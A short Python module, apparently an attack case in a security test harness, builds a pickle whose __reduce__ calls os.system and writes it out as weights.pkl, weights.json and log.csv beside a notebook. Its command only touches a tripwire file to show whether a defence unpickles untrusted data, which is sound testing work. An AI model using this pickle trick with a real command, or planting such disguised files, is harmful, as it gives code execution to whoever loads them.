# ruff: noqa
"""A pickle that runs a command when it is loaded.

defence: nothing is unpickled
control: naive
wins: tripwire
"""

import os, pickle


class Payload:
    def __init__(self, command):
        self.command = command

    def __reduce__(self):
        return os.system, (self.command,)


def build(folder, arena):
    (folder / "attacked.ipynb").write_text(arena.notebook(None))
    data = pickle.dumps(Payload(f"echo here > {arena.tripwire}"))
    for name in ("weights.pkl", "weights.json", "log.csv"):
        (folder / name).write_bytes(data)
    return folder
